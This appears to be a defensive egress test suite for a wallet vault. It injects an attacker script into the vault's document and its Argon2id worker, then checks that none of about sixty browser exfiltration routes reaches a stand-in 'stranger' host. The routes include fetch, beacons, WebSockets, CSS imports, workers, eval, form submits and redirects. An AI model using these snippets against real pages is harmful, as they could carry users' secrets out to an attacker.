// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attempts are texts of scripts, templates and all
import { createHash } from 'node:crypto'
import type { Ground, Scenario } from '../Scenario.ts'
import type { Tampering } from '../stage/serveFront.ts'
import { openWallet, until, vaultFile } from '../stage/testUser.ts'

/**
 * An attacker's code inside the vault's document, which tries to send its findings. The document is the real one with all its headers,
 * except that the policy also lists the hash of the attacker's script: only the policy and the frame that the wallet has made protect it.
 *
 * WebRTC is not among the ways: no policy of Chromium or Firefox governs it (`docs/threat-model.md`).
 *
 * Attempts are texts: each may use `leak(name)`, a URL of another site that must never be requested.
 */
export type Attempts = Readonly<Record<string, string>>

const ways = {
  requests: {
    fetch: "fetch(leak('fetch'), { mode: 'no-cors' })",
    'fetch kept alive': "fetch(leak('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })",
    'fetch later': "fetchLater(leak('later'), { activateAfter: 0 })",
    XMLHttpRequest: "{ const request = new XMLHttpRequest(); request.open('GET', leak('xhr')); request.send() }",
    beacon: "navigator.sendBeacon(leak('beacon'), 'x')",
    WebSocket: "new WebSocket(leak('socket').replace('http', 'ws'))",
    EventSource: "new EventSource(leak('events'))",
    WebTransport: "new WebTransport(leak('transport').replace('http:', 'https:'))",
    'own origin': "fetch('/leak/own')",
    ping: "{ const a = document.createElement('a'); a.href = '#x'; a.ping = leak('ping'); document.body.append(a); a.click() }",
    report:
      "new ReportingObserver(() => {}).observe(), document.querySelector('head').insertAdjacentElement('beforeend', Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: `report-uri ${leak('report')}` }))",
  },
  elements: {
    img: 'new Image().src = leak("img")',
    'img set': "document.body.append(Object.assign(new Image(), { srcset: leak('srcset') + ' 1x' }))",
    script:
      "document.body.append(Object.assign(document.createElement('script'), { text: '' })), document.body.lastChild.setAttribute('src', leak('script'))",
    style:
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: leak('style') }))",
    'style import':
      "document.head.append(Object.assign(document.createElement('style'), { textContent: `@import url(${leak('import')});` }))",
    'style sheet object':
      "{ const sheet = new CSSStyleSheet(); sheet.replaceSync(`body { background: url(${leak('sheet')}) }`); document.adoptedStyleSheets = [sheet] }",
    'style property': "document.body.style.backgroundImage = `url(${leak('property')})`",
    font: "new FontFace('x', `url(${leak('font')})`).load()",
    audio: "new Audio(leak('audio')).load()",
    video:
      "document.body.append(Object.assign(document.createElement('video'), { poster: leak('poster'), src: leak('video') }))",
    track:
      "{ const video = document.createElement('video'); video.append(Object.assign(document.createElement('track'), { src: leak('track'), default: true })); document.body.append(video) }",
    object: "document.body.append(Object.assign(document.createElement('object'), { data: leak('object') }))",
    embed: "document.body.append(Object.assign(document.createElement('embed'), { src: leak('embed') }))",
    svg: "{ const image = document.createElementNS('http://www.w3.org/2000/svg', 'image'); image.setAttribute('href', leak('svg')); const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.append(image); document.body.append(svg) }",
    frame: "document.body.append(Object.assign(document.createElement('iframe'), { src: leak('frame') }))",
    ...Object.fromEntries(
      ['prefetch', 'preload', 'modulepreload', 'prerender', 'manifest', 'icon'].map((rel) => [
        rel,
        `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', as: 'script', href: leak('${rel}') }))`,
      ]),
    ),
    'speculation rules':
      "document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text: JSON.stringify({ prefetch: [{ urls: [leak('speculation')] }] }) }))",
  },
  code: {
    worker: "new Worker(leak('worker'))",
    'worker of a blob': "new Worker(URL.createObjectURL(new Blob([`fetch('${leak('blob')}')`])))",
    'shared worker': "new SharedWorker(leak('shared'))",
    'service worker': "navigator.serviceWorker.register('/leak/service')",
    worklet: "new AudioContext().audioWorklet.addModule(leak('worklet'))",
    import: "import(leak('module'))",
    'import of data': "import(`data:text/javascript,fetch('${leak('data')}')`)",
    eval: "eval(`fetch('${leak('eval')}')`)",
    Function: "new Function(`fetch('${leak('function')}')`)()",
    'text in a timer': "setTimeout(`fetch('${leak('timer')}')`)",
    'inline script':
      "document.body.append(Object.assign(document.createElement('script'), { text: `fetch('${leak('inline')}')` }))",
    'handler attribute': "document.body.setAttribute('onclick', `fetch('${leak('handler')}')`), document.body.click()",
    markup: "document.body.innerHTML = `<img src=x onerror=\"fetch('${leak('markup')}')\">`",
    'document written in a frame':
      "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<img src=\"${leak('srcdoc')}\">` }))",
    'about:blank frame':
      "{ const frame = document.body.appendChild(document.createElement('iframe')); frame.contentWindow.fetch(leak('blank'), { mode: 'no-cors' }) }",
  },
  peers: {
    'storage access': "document.requestStorageAccess().then(() => fetch(leak('access')))",
    opener: "parent.parent.postMessage('secret', '*'), top.postMessage('secret', '*')",
    clipboard: "navigator.clipboard.writeText('secret')",
  },
  'ways out of the frame': {
    window: "window.open(leak('window'))",
    'top window': "top.location.href = leak('top')",
    'parent window': "parent.location.href = leak('parent')",
    'link to a new window':
      "{ const a = Object.assign(document.createElement('a'), { href: leak('link'), target: '_blank' }); document.body.append(a); a.click() }",
    download:
      "{ const a = Object.assign(document.createElement('a'), { href: leak('download'), download: 'x' }); document.body.append(a); a.click() }",
    form: "{ const form = Object.assign(document.createElement('form'), { action: leak('form') }); document.body.append(form); form.submit() }",
    'form of a new window':
      "{ const form = Object.assign(document.createElement('form'), { action: leak('form-blank'), target: '_blank' }); document.body.append(form); form.submit() }",
  },
  // Last: if it works, it ends the others.
  'its own address': {
    refresh:
      "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${leak('refresh')}` }))",
    location: "location.href = leak('location')",
  },
} as const satisfies Record<string, Attempts>

/** Returns one classic script that makes every attempt, even if others fail. */
export const scriptOf = (attempts: Attempts, stranger: string): string => `(() => {
  const leak = (name) => ${JSON.stringify(`${stranger}/leak/`)} + name
  const swallow = (error) => void error
  addEventListener('unhandledrejection', (event) => event.preventDefault())
  const work = () => {
    ${Object.values(attempts)
      .map((attempt) => `try { ${attempt} } catch (error) { swallow(error) }`)
      .join('\n')}
    document.documentElement.dataset.attacked = 'yes'
  }
  if (document.body) work()
  else addEventListener('DOMContentLoaded', work)
})()`

const hashOf = (script: string): string => `'sha256-${createHash('sha256').update(script).digest('base64')}'`

/** Returns the vault's document with one more script, which its policy lists. */
export const withScript =
  (script: string): Tampering =>
  (path, served) => {
    const policy = served.headers['content-security-policy']
    if (!path.startsWith('/vault?') || policy === undefined) return served
    return {
      ...served,
      headers: {
        ...served.headers,
        'content-security-policy': `${policy}`.replace('script-src ', `script-src ${hashOf(script)} `),
      },
      body: Buffer.from(served.body.toString().replace('</head>', () => `<script>${script}</script></head>`)),
    }
  }

/** Long enough for a request to arrive; the audit checks again a second later. */
const settle = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 300))

/** Opens a wallet whose vault is served with `tampering`, and waits until the vault's document reports that it was attacked. */
const openAttacked = async ({ stage, openTab }: Ground, tampering: Tampering): Promise<void> => {
  let isServed = false
  stage.vaultFront.tamper((path, served) => {
    isServed ||= path.startsWith('/vault?')
    return tampering(path, served)
  })
  const tab = await openTab()
  await openWallet(stage, tab)
  // A document that navigated to its own URL is gone, and reports nothing more.
  await until(async () => {
    const vault = tab.realms().find((realm) => realm.url().startsWith(stage.urls.vault))
    if (vault === undefined) return isServed
    return (await vault.evaluate(() => document.documentElement.dataset.attacked, undefined).catch(() => '')) === 'yes'
  })
  await settle()
  stage.vaultFront.tamper(null)
}

const attackVault =
  (attempts: Attempts): Scenario['attack'] =>
  async (ground: Ground) => {
    await openAttacked(ground, withScript(scriptOf(attempts, ground.stage.urls.stranger)))
    return 'nothing'
  }

/** A worker's possible attempts. */
const workerWays = {
  fetch: "fetch(leak('fetch'), { mode: 'no-cors' })",
  XMLHttpRequest: "{ const request = new XMLHttpRequest(); request.open('GET', leak('xhr')); request.send() }",
  WebSocket: "new WebSocket(leak('socket').replace('http', 'ws'))",
  EventSource: "new EventSource(leak('events'))",
  WebTransport: "new WebTransport(leak('transport').replace('http:', 'https:'))",
  'own origin': "fetch('/leak/own')",
  worker: "new Worker(leak('worker'))",
  'worker of a blob': "new Worker(URL.createObjectURL(new Blob([`fetch('${leak('blob')}')`])))",
  importScripts: "importScripts(leak('scripts'))",
  import: "import(leak('module'))",
  eval: "eval(`fetch('${leak('eval')}')`)",
  Function: "new Function(`fetch('${leak('function')}')`)()",
  'text in a timer': "setTimeout(`fetch('${leak('timer')}')`)",
} as const satisfies Attempts

/**
 * The Argon2id worker, served with the attacker's code and its own headers, and started by an attacker's script in the vault's document.
 */
const attackKdf: Scenario['attack'] = async (ground: Ground) => {
  const { stage } = ground
  const start = `(() => {
    const policy = globalThis.trustedTypes?.createPolicy('attacker', { createScriptURL: (url) => url })
    const url = ${JSON.stringify(await vaultFile(ground, 'kdf'))}
    const worker = new Worker(policy?.createScriptURL(url) ?? url)
    worker.addEventListener('message', () => { document.documentElement.dataset.attacked = 'yes' })
  })()`
  const code = `(() => {
    const leak = (name) => ${JSON.stringify(`${stage.urls.stranger}/leak/kdf-`)} + name
    addEventListener('unhandledrejection', (event) => event.preventDefault())
    ${Object.values(workerWays)
      .map((attempt) => `try { ${attempt} } catch {}`)
      .join('\n')}
    postMessage('attacked')
  })()`
  const inDocument = withScript(start)
  await openAttacked(ground, (path, served) => {
    if (path.startsWith('/vault-kdf-')) return { ...served, body: Buffer.from(code) }
    const sent = inDocument(path, served)
    const policy = `${sent.headers['content-security-policy']}`.replace('trusted-types ', 'trusted-types attacker ')
    return { ...sent, headers: { ...sent.headers, 'content-security-policy': policy } }
  })
  return 'nothing'
}

export const egressRows: readonly Scenario[] = [
  ...Object.entries(ways).map(([name, attempts]) => ({
    name: `from inside the vault: ${name} (${Object.keys(attempts).length} ways)`,
    attack: attackVault(attempts),
    gets: 'nothing',
  })),
  {
    name: `from inside the worker of passphrases (${Object.keys(workerWays).length} ways)`,
    attack: attackKdf,
    gets: 'nothing',
  },
]

export const egressWays: Readonly<Record<string, Attempts>> = ways
